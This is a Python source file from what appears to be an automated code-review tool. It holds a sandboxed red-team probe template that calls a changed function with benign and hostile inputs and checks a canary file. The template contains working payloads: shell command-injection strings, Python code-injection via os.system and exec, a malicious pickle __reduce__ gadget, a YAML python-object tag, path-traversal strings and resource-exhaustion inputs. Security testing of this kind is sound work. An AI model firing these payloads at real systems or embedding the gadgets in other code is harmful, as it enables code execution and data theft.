"""The probe program the Red Agent sends into the sandbox, as source text.

The probe imports the changed module, calls one target twice — once with a benign value, once with the
payload — and prints one marker line per phase (``LOGOMESH-PROBE-<nonce> {json}``). It judges nothing itself
beyond observing the canary/secret files; :mod:`checks.red.probes` reads the markers and applies the oracle.
It only ever runs inside the sandbox.
"""

PROBE_TEMPLATE = r'''# LogoMesh red-team probe: call one target of the change with one payload, report what happened.
import asyncio, base64, importlib, importlib.util, inspect, io, json, os, pickle, sqlite3, sys, tempfile

CONFIG = json.loads(__CONFIG__)
MARK = "LOGOMESH-PROBE-" + CONFIG["nonce"]
NONCE = CONFIG["nonce"]
# The work dir's name is part of every crafted payload (the canary path), so it is fixed by the nonce: a random
# name would make the same review build different payload bytes and get different outcomes.
WORK = os.path.join(tempfile.gettempdir(), "lm-probe-" + NONCE)
if os.path.lexists(WORK):
    import shutil
    shutil.rmtree(WORK, ignore_errors=True)
os.makedirs(WORK, mode=0o700)
CANARY = os.path.join(WORK, "canary-" + NONCE)
SECRET = os.path.join(WORK, "secret-" + NONCE + ".txt")
CONTENT = "content-" + NONCE[::-1]
BASE = os.path.join(WORK, "base")
os.makedirs(BASE)
with open(os.path.join(BASE, "a"), "w") as handle:
    handle.write("benign")
with open(SECRET, "w") as handle:
    handle.write(CONTENT)
sys.setrecursionlimit(10000)
_out = sys.stdout


def emit(phase, **data):
    data["phase"] = phase
    _out.write("\n" + MARK + " " + json.dumps(data, default=repr) + "\n")
    _out.flush()


class _Exploit:
    def __reduce__(self):
        return (exec, ("import pathlib; pathlib.Path(%r).write_text(%r)" % (CANARY, NONCE),))


def _nested(kind, depth=100000):
    value = [] if kind == "list" else {}
    for _ in range(depth):
        value = [value] if kind == "list" else {"k": value}
    return value


def payload(kind, family):
    shell = "echo " + NONCE + " > " + CANARY
    traversal = "../" * 24 + SECRET.lstrip("/")
    table = {
        ("command-injection", "semicolon"): "a; " + shell + " #",
        ("command-injection", "subshell"): "$(" + shell + ")",
        ("command-injection", "quote-break"): "a'; " + shell + "; echo '",
        ("command-injection", "backtick"): "`" + shell + "`",
        ("code-injection", "expression"): "__import__('pathlib').Path(%r).write_text(%r)" % (CANARY, NONCE),
        ("code-injection", "getattr-system"): "getattr(__import__('os'), 'system')(%r)" % shell,
        ("code-injection", "statement"): "import pathlib; pathlib.Path(%r).write_text(%r)" % (CANARY, NONCE),
        ("sql-injection", "quote"): "a'",
        ("sql-injection", "double-quote"): 'a"',
        ("sql-injection", "unbalanced"): "a') \" '",
        ("path-traversal", "dotdot"): traversal,
        ("path-traversal", "absolute"): SECRET,
        ("resource-exhaustion", "long-string"): "a" * 1000000,
    }
    if (kind, family) in table:
        return table[(kind, family)]
    crafted = pickle.dumps(_Exploit())
    if family == "pickle-bytes":
        return crafted
    if family == "pickle-base64":
        return base64.b64encode(crafted).decode()
    if family == "pickle-stream":
        return io.BytesIO(crafted)
    if family == "yaml-tag":
        return "!!python/object/apply:exec [%r]" % ("import pathlib; pathlib.Path(%r).write_text(%r)" % (CANARY, NONCE))
    if family == "deep-list":
        return _nested("list")
    if family == "deep-dict":
        return _nested("dict")
    raise ValueError(family)


def benign(kind, family):
    if kind == "deserialization":
        plain = pickle.dumps("a")
        return {"pickle-bytes": plain, "pickle-base64": base64.b64encode(plain).decode(),
                "pickle-stream": io.BytesIO(plain), "yaml-tag": "a"}[family]
    if kind == "resource-exhaustion":
        return {"deep-list": [[]], "deep-dict": {"k": {}}, "long-string": "a"}[family]
    if kind == "path-traversal":
        return "a"
    return "a"


def filler(name, connection):
    lowered = name.lower()
    if lowered in ("conn", "connection", "con", "db", "database"):
        return connection
    if lowered in ("cursor", "cur"):
        return connection.cursor()
    if any(word in lowered for word in ("dir", "root", "base", "folder")):
        return BASE
    if any(word in lowered for word in ("path", "file")):
        return os.path.join(BASE, "a")
    return "a"


def load_target():
    path = CONFIG["path"]
    sys.path.insert(0, os.getcwd())
    module_name = path[:-3].replace("/", ".") if path.endswith(".py") else path
    if module_name.endswith(".__init__"):
        module_name = module_name[: -len(".__init__")]
    try:
        module = importlib.import_module(module_name)
    except ImportError:
        spec = importlib.util.spec_from_file_location("lm_probe_target", os.path.join(os.getcwd(), path))
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
    parts = CONFIG["qualname"].split(".")
    if CONFIG["is_method"]:
        owner = getattr(module, parts[0])
        instance = owner.__new__(owner)
        return getattr(instance, parts[1])
    target = module
    for part in parts:
        target = getattr(target, part)
    return target


def call(target, value):
    connection = sqlite3.connect(":memory:")
    kwargs = {}
    try:
        signature = inspect.signature(target)
    except (TypeError, ValueError):
        signature = None
    for name in CONFIG["params"]:
        if name == CONFIG["argument"]:
            kwargs[name] = value
            continue
        parameter = signature.parameters.get(name) if signature else None
        if parameter is not None and parameter.default is not inspect.Parameter.empty:
            continue
        kwargs[name] = filler(name, connection)
    try:
        result = target(**kwargs)
        if inspect.isawaitable(result):
            result = asyncio.run(result)
        if inspect.isgenerator(result):
            result = list(result)
        return {"ok": True, "returned": repr(result).replace(WORK, "<work>")[:4000]}
    except BaseException as exc:  # the target is hostile code: catch SystemExit and the rest
        return {"ok": False, "error_type": type(exc).__name__, "error_module": type(exc).__module__,
                "error": str(exc).replace(WORK, "<work>")[:500]}


def main():
    kind, family = CONFIG["kind"], CONFIG["family"]
    try:
        target = load_target()
    except BaseException as exc:
        emit("import", ok=False, error_type=type(exc).__name__, error=str(exc).replace(WORK, "<work>")[:500])
        return
    emit("import", ok=True)
    emit("baseline", **call(target, benign(kind, family)))
    value = payload(kind, family)
    emit("payload", ok=True)
    outcome = call(target, value)
    del value
    returned = outcome.get("returned", "")
    with open(SECRET) as handle:
        secret_intact = handle.read() == CONTENT
    canary = os.path.exists(CANARY)
    emit("attack", canary=canary, returned_secret=CONTENT in returned, secret_intact=secret_intact, **outcome)


main()
'''
